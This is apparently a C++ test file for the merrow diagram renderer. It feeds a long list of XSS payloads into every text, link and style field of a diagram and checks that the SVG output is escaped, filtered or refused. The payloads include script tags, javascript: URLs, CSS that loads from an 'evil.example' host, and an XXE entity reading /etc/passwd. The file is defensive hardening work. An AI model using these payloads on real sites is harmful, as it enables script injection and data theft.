// Hostile input through the whole pipeline: XSS payloads in every place a diagram can carry
// text, links and CSS, checked by reading the SVG back (svg_safety.hpp); the links merrow keeps
// and drops; the inline HTML it draws; options that reach the style sheet.
#include "merrow/cli/pipeline.hpp"
#include "merrow/layout/text_measurer.hpp"
#include "merrow/model/link.hpp"
#include "merrow/render/pango_measurer.hpp"
#include "svg_safety.hpp"

#include <catch2/catch.hpp>
#include <string>
#include <vector>

using namespace merrow;

namespace {

// Scripts, event attributes, hostile URLs, CSS that fetches or runs, and entity tricks: in the
// raw, in HTML entities and in Mermaid's own `#…;` entity codes.
const std::vector<std::string>& payloads() {
    static const std::vector<std::string> list{
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</script>",
        "</text><script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "</style><script>alert(1)</script>",
        "\"><script>alert(1)</script>",
        "'><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg/onload=alert(1)>",
        "<body onload=alert(1)>",
        "\" onmouseover=\"alert(1)",
        "' onmouseover='alert(1)",
        "x\" onclick=\"alert(1)\" y=\"",
        "<b onclick=alert(1)>bold</b>",
        "<i/onclick=alert(1)>it</i>",
        "<b style=\"x:expression(alert(1))\">b</b>",
        "<br onload=alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=javascript:alert(1)>x</a>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<foreignObject><div>x</div></foreignObject>",
        "<use href=\"data:image/svg+xml,<svg onload=alert(1)>\"/>",
        "<animate attributeName=\"href\" to=\"javascript:alert(1)\"/>",
        "<set attributeName=\"onmouseover\" to=\"alert(1)\"/>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<xss:script xmlns:xss=\"http://www.w3.org/1999/xhtml\">alert(1)</xss:script>",
        "<style>@import 'http://evil.example/x.css';</style>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "]]><script>alert(1)</script>",
        "<!--<script>alert(1)</script>-->",
        "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
        "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
        "javascript:alert(1)",
        "JaVaScRiPt:alert(document.domain)",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "java&#x09;script:alert(1)",
        "javascript&#58;alert(1)",
        "javascript&colon;alert(1)",
        "&#106;avascript:alert(1)",
        "#106;avascript:alert(1)",
        "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
        "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112"
        "&#0000116&#0000058alert(1)",
        "vbscript:msgbox(1)",
        "livescript:alert(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data:image/svg+xml,<svg onload=alert(1)>",
        "DATA:text/html,<script>alert(1)</script>",
        "file:///etc/passwd",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "#lt;script#gt;alert(1)#lt;/script#gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
        "&amp;lt;script&amp;gt;",
        "&#60;img src=x onerror=alert(1)&#62;",
        "#60;img src=x onerror=alert(1)#62;",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
        "\\u003cscript\\u003e",
        "background:url(javascript:alert(1))",
        "fill:url(#x)",
        "fill:url(http://evil.example/x.svg#a)",
        "width:expression(alert(1))",
        "color:red;}</style><script>alert(1)</script>",
        "-moz-binding:url(http://evil.example/xss.xml#xss)",
        "behavior:url(x.htc)",
        "@import url(http://evil.example/x.css)",
        "fill:#f00;background-image:url(javascript:alert(1))",
        "fill:#f00,font-family:x;}*{background:url(javascript:alert(1))",
        "font-family:Arial\\,url(javascript:alert(1))",
        "stroke:red\\,fill:url(#x)",
        "${alert(1)}",
        "{{constructor.constructor('alert(1)')()}}",
        "\xE2\x80\xAE<script>alert(1)</script>", // right-to-left override
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    };
    return list;
}

std::string json_escaped(const std::string& s) {
    std::string out;
    for (const char c : s) {
        if (c == '"' || c == '\\') {
            out += '\\';
            out += c;
        } else if (c == '\n') {
            out += "\\n";
        } else if (c == '\t') {
            out += "\\t";
        } else {
            out += c;
        }
    }
    return out;
}

std::string yaml_single_quoted(const std::string& s) {
    std::string out = "'";
    for (const char c : s) {
        out += c;
        if (c == '\'') {
            out += '\'';
        }
    }
    return out + "'";
}

/// Every place a diagram carries text, a link or CSS, with `P` standing for the payload.
std::vector<std::string> diagrams_with(const std::string& p) {
    const std::string j = json_escaped(p);
    return {
        "flowchart TD\n  A[\"" + p + "\"] --> B",
        "flowchart TD\n  A[" + p + "] --> B",
        "flowchart TD\n  A(" + p + ") --> B{" + p + "}",
        "flowchart TD\n  A -->|\"" + p + "\"| B",
        "flowchart TD\n  A -->|" + p + "| B",
        "flowchart TD\n  A -- \"" + p + "\" --> B",
        "flowchart TD\n  A -- " + p + " --> B",
        "flowchart TD\n  subgraph s1 [\"" + p + "\"]\n  A\n  end",
        "flowchart TD\n  subgraph " + p + "\n  A\n  end",
        "flowchart TD\n  A[\"`" + p + "`\"]",
        "flowchart TD\n  A[\"`**" + p + "** _x_`\"]",
        "flowchart TD\n  A\n  click A href \"" + p + "\" \"" + p + "\" _blank",
        "flowchart TD\n  A\n  click A \"" + p + "\"",
        "flowchart TD\n  A\n  click A call " + p + "()",
        "flowchart TD\n  A\n  click A " + p,
        "---\ntitle: " + yaml_single_quoted(p) + "\n---\nflowchart TD\n  A",
        "flowchart TD\n  accTitle: " + p + "\n  accDescr: " + p + "\n  A",
        "flowchart TD\n  accDescr {\n" + p + "\n}\n  A",
        "flowchart TD\n  A@{ shape: rect, label: " + yaml_single_quoted(p) + " }",
        "flowchart TD\n  A@{ shape: rect, label: \"" + j + "\", labelType: text }",
        "flowchart TD\n  A@{ icon: " + yaml_single_quoted(p) + ", img: " + yaml_single_quoted(p) +
            " }",
        "flowchart TD\n  A[x]:::" + p,
        "flowchart TD\n  classDef c " + p + "\n  A:::c",
        "flowchart TD\n  A\n  style A " + p,
        "flowchart TD\n  A --> B\n  linkStyle 0 " + p,
        "flowchart TD\n  A e1@--> B\n  e1@{ curve: " + yaml_single_quoted(p) + " }",
        "%%{init: {\"themeVariables\": {\"primaryColor\": \"" + j + "\", \"fontFamily\": \"" + j +
            "\"}}}%%\nflowchart TD\n  A",
        "%%{init: {\"fontFamily\": \"" + j + "\", \"theme\": \"" + j + "\"}}%%\nflowchart TD\n  A",
        "---\nconfig:\n  themeVariables:\n    lineColor: " + yaml_single_quoted(p) +
            "\n    nodeBorder: " + yaml_single_quoted(p) + "\n---\nflowchart TD\n  A --> B",
        "flowchart TD\n  " + p + " --> B",
    };
}

struct Rendered {
    std::size_t rendered = 0;
    std::size_t refused = 0;
};

/// Renders `source`; when it renders, its SVG must be safe.
bool render_safely(const std::string& source, const cli::RenderOptions& options,
                   const layout::TextMeasurer& measurer, Rendered& counts) {
    const cli::RenderResult r = cli::render(source, options, measurer);
    if (!r.ok) {
        ++counts.refused;
        return false;
    }
    ++counts.rendered;
    const auto problems = test::svg_safety_problems(r.output);
    INFO("diagram:\n" << source);
    INFO("svg:\n" << r.output);
    std::string listed;
    for (const std::string& p : problems) {
        listed += p + "\n";
    }
    INFO("problems:\n" << listed);
    CHECK(problems.empty());
    return true;
}

cli::RenderResult render_text(const std::string& source, const cli::RenderOptions& options = {}) {
    static const layout::ApproximateTextMeasurer measurer;
    return cli::render(source, options, measurer);
}

bool contains(const std::string& haystack, const std::string& needle) {
    return haystack.find(needle) != std::string::npos;
}

std::size_t count(const std::string& haystack, const std::string& needle) {
    std::size_t n = 0;
    for (std::size_t at = haystack.find(needle); at != std::string::npos;
         at = haystack.find(needle, at + 1)) {
        ++n;
    }
    return n;
}

} // namespace

TEST_CASE("xss: no payload becomes live markup, in any place a diagram carries text",
          "[hardening][xss]") {
    const layout::ApproximateTextMeasurer measurer;
    cli::RenderOptions options;
    Rendered counts;
    std::size_t quoted_rendered = 0;
    std::size_t quoted_possible = 0;
    for (const std::string& p : payloads()) {
        const auto diagrams = diagrams_with(p);
        for (std::size_t i = 0; i < diagrams.size(); ++i) {
            const bool ok = render_safely(diagrams[i], options, measurer, counts);
            if (i == 0 && p.find('"') == std::string::npos && p.find('\n') == std::string::npos) {
                ++quoted_possible;
                quoted_rendered += ok ? 1U : 0U;
            }
        }
    }
    // The payloads reach the output (as text), rather than all being refused by the parser.
    CHECK(quoted_rendered == quoted_possible);
    CHECK(counts.rendered > payloads().size() * 8);
    INFO(counts.rendered << " rendered, " << counts.refused << " refused");
    CHECK(payloads().size() >= 75);
}

TEST_CASE("xss: the same with the site's configuration, a dark palette and glyph outlines",
          "[hardening][xss]") {
    render::PangoTextMeasurer measurer;
    Rendered counts;
    for (const std::string& p : payloads()) {
        cli::RenderOptions options;
        // The site configuration may set anything; it still reaches the SVG only as values.
        options.config.font_family = p;
        options.config.theme_variables["primaryColor"] = p;
        options.config.theme_variables["fontFamily"] = p;
        options.dark_theme = "dark";
        options.light_selector = ".light";
        render_safely("flowchart TD\n  A[\"" + p + "\"] -->|x| B\n  click B \"" + p + "\"", options,
                      measurer, counts);
        options.svg_text_paths = true;
        render_safely("flowchart LR\n  A[\"" + p + "\"]", options, measurer, counts);
    }
    CHECK(counts.rendered > payloads().size());
}

TEST_CASE("xss: markup in a label is drawn as its characters, escaped", "[hardening][xss]") {
    const auto r = render_text("flowchart TD\n  A[\"<script>alert(1)</script>\"] --> "
                               "B[\"<img src=x onerror=alert(1)>\"]");
    REQUIRE(r.ok);
    CHECK(contains(r.output, "&lt;script&gt;alert(1)&lt;/script&gt;"));
    CHECK(contains(r.output, "&lt;img src=x"));
    CHECK(contains(r.output, "onerror=alert(1)&gt;"));
    CHECK(!contains(r.output, "<script"));
    CHECK(!contains(r.output, "<img"));
    // Entity codes decode to characters, which are escaped again: `&lt;b&gt;` is never a tag.
    const auto entities = render_text("flowchart TD\n  A[\"&lt;b&gt;x&lt;/b&gt; #lt;i#gt;y\"]");
    REQUIRE(entities.ok);
    CHECK(contains(entities.output, "&lt;b&gt;x&lt;/b&gt; &lt;i&gt;y"));
    CHECK(!contains(entities.output, "font-weight=\"bold\""));
}

TEST_CASE("labels: the inline HTML subset is rebuilt as SVG text", "[hardening][labels]") {
    const auto r = render_text("flowchart TD\n  A[\"<b>Bold</b> and <i>italic</i><br>and "
                               "<strong><em>both</em></strong>\"]");
    REQUIRE(r.ok);
    CHECK(contains(r.output, "<tspan font-weight=\"bold\">Bold</tspan>"));
    CHECK(contains(r.output, "<tspan font-style=\"italic\">italic</tspan>"));
    CHECK(contains(r.output, "<tspan font-weight=\"bold\" font-style=\"italic\">both</tspan>"));
    CHECK(!contains(r.output, "&lt;b&gt;"));
    CHECK(!contains(r.output, "&lt;br"));
    // Tags with attributes and other elements are not the subset: they stay as text.
    const auto other = render_text("flowchart TD\n  A[\"<b class=x>x</b> <u>u</u>\"]");
    REQUIRE(other.ok);
    CHECK(contains(other.output, "&lt;b class=x&gt;x"));
    CHECK(contains(other.output, "&lt;u&gt;u&lt;/u&gt;"));
}

TEST_CASE("links: http, https, mailto and relative links are kept, with rel",
          "[hardening][links]") {
    const std::vector<std::pair<std::string, std::string>> kept{
        {"https://example.com/a?b=1&c=2#d", "https://example.com/a?b=1&amp;c=2#d"},
        {"http://example.org", "http://example.org"},
        {"HTTPS://EXAMPLE.COM", "HTTPS://EXAMPLE.COM"},
        {"mailto:someone@example.com", "mailto:someone@example.com"},
        {"docs/page.html", "docs/page.html"},
        {"/absolute/path", "/absolute/path"},
        {"#anchor", "#anchor"},
        {"?query=1", "?query=1"},
        {"//cdn.example.com/x", "//cdn.example.com/x"},
        {"  https://trimmed.example  ", "https://trimmed.example"},
        {"./a:b", "./a:b"},
    };
    for (const auto& [url, written] : kept) {
        INFO(url);
        const auto r = render_text("flowchart TD\n  A --> B\n  click A href \"" + url +
                                   "\" \"Tip\" _blank\n  click B \"" + url + "\"");
        REQUIRE(r.ok);
        CHECK(count(r.output, "<a href=\"" + written + "\" xlink:href=\"" + written + "\"") == 2);
        CHECK(count(r.output, "rel=\"noopener noreferrer\"") == 2);
        CHECK(count(r.output, "target=\"_blank\"") == 1);
        CHECK(contains(r.output, "<title>Tip</title>"));
        CHECK(test::svg_safety_problems(r.output).empty());
    }
}

TEST_CASE("links: every other scheme is dropped with a warning at the link", "[hardening][links]") {
    const std::vector<std::string> dropped{
        "javascript:alert(1)", "JAVASCRIPT:alert(1)", " javascript:alert(1)",
        "java\tscript:alert(1)", "vbscript:x", "data:text/html,<script>alert(1)</script>",
        "file:///etc/passwd", "ftp://example.com", "tel:123", "blob:https://x/y", "1a:b",
        "\xC2\xA0javascript:alert(1)", "javascript%3Aalert(1):x", "javascript :alert(1)",
        // merrow escapes `&`, so browsers would read these as relative links; they are dropped
        // anyway, for pages that decode character references once more.
        "&#106;avascript:alert(1)", "#106;avascript:alert(1)", "javascript&colon;alert(1)",
        "javascript&#58;alert(1)", "java&#x09;script:alert(1)", "&#x6A&#x61vascript:alert(1)"};
    for (const std::string& url : dropped) {
        INFO(url);
        const auto r = render_text("flowchart TD\n  A\n  click A href \"" + url + "\" \"tip\"");
        REQUIRE(r.ok);
        CHECK(!contains(r.output, "<a "));
        CHECK(!contains(r.output, "href"));
        CHECK(contains(r.output, "<title>tip</title>")); // the tooltip stays
        bool warned = false;
        for (const auto& d : r.diagnostics) {
            warned = warned || (d.severity == model::Severity::warning &&
                                contains(d.message, "this link is left out of the output") &&
                                d.range.begin.line == 3 && d.range.begin.column == 17);
        }
        CHECK(warned);
    }
    // Percent-encoding is no scheme to anyone: a relative link, kept.
    const auto percent = render_text("flowchart TD\n  A\n  click A href \"javascript%3Aalert(1)\"");
    REQUIRE(percent.ok);
    CHECK(contains(percent.output, "href=\"javascript%3Aalert(1)\""));
    CHECK(test::svg_safety_problems(percent.output).empty());
    CHECK(!model::safe_link("javascript:alert(1)"));
    CHECK(!model::safe_link("java\nscript:alert(1)"));
    CHECK(!model::safe_link(""));
    CHECK(model::check_link("data:x").reason.find("`data:`") != std::string::npos);
    CHECK(model::safe_link(" https://x.org ") == "https://x.org");
}

TEST_CASE("links: click callbacks are never written, whatever their name", "[hardening][links]") {
    const auto r =
        render_text("flowchart TD\n  A --> B --> C\n  click A callback\n"
                    "  click B call alert(document.cookie)\n  click C call eval(\"x\") \"t\"");
    REQUIRE(r.ok);
    CHECK(!contains(r.output, "alert"));
    CHECK(!contains(r.output, "eval"));
    CHECK(!contains(r.output, "callback"));
    CHECK(!contains(r.output, "<a "));
    std::size_t notes = 0;
    for (const auto& d : r.diagnostics) {
        if (d.severity == model::Severity::note && d.verbose &&
            contains(d.message, "never runs `click` callbacks")) {
            ++notes;
        }
    }
    CHECK(notes == 3);
}

TEST_CASE("css: style and classDef reach the SVG only as typed values", "[hardening][css]") {
    // The grammar refuses parentheses and quotes in style statements (as Mermaid's does), so
    // `url(…)` and `expression(…)` never get as far as the style parser.
    for (const std::string css : {"fill:url(javascript:alert(1))", "fill:expression(alert(1))",
                                  "background:url(x)", "font-family:\"x\"", "fill:red;}"}) {
        INFO(css);
        CHECK(!render_text("flowchart TD\n  A\n  style A " + css).ok);
    }
    // What does parse is read into known properties; the rest is dropped with a warning.
    const auto r =
        render_text("flowchart TD\n  A --> B\n  classDef c fill:#f96,behavior:x,-moz-binding:y,"
                    "font-family:Comic Sans\\,x\n  class A c\n  style B stroke:#00f,onload:alert\n"
                    "  linkStyle 0 stroke:#0f0,position:fixed");
    REQUIRE(r.ok);
    CHECK(contains(r.output, "fill=\"#ff9966\""));
    CHECK(contains(r.output, "stroke=\"#0000ff\""));
    CHECK(contains(r.output, "font-family=\"Comic Sans,x\""));
    for (const std::string word : {"behavior", "binding", "onload", "position"}) {
        CHECK(!contains(r.output, word));
    }
    CHECK(test::svg_safety_problems(r.output).empty());
    std::size_t unknown = 0;
    for (const auto& d : r.diagnostics) {
        unknown += contains(d.message, "unknown style property") ? 1U : 0U;
    }
    CHECK(unknown == 4);
}

TEST_CASE("svg options: ids and selectors that could break out are refused",
          "[hardening][options]") {
    cli::RenderOptions options;
    options.svg_id = "x\"><script>alert(1)</script>";
    auto r = render_text("flowchart TD\n  A", options);
    CHECK(!r.ok);
    REQUIRE(!r.diagnostics.empty());
    CHECK(contains(r.diagnostics.back().message, "the SVG id"));
    options.svg_id = "my-svg_1";
    CHECK(render_text("flowchart TD\n  A", options).ok);
    for (const std::string selector :
         {".dark{}</style><script>alert(1)</script>", ".x{background:url(y)}", ".a;b",
          "@import 'x'", ".a/*", "html\\3c"}) {
        INFO(selector);
        cli::RenderOptions o;
        o.dark_theme = "dark";
        o.dark_selector = selector;
        r = render_text("flowchart TD\n  A", o);
        CHECK(!r.ok);
        CHECK(contains(r.diagnostics.back().message, "not a plain CSS selector"));
    }
    cli::RenderOptions good;
    good.dark_theme = "dark";
    good.dark_selector = "[data-theme=\"dark\"]";
    good.light_selector = "html.light > body";
    r = render_text("flowchart TD\n  A", good);
    REQUIRE(r.ok);
    CHECK(test::svg_safety_problems(r.output).empty());
    CHECK(contains(r.output, "[data-theme=\"dark\"] #"));
}
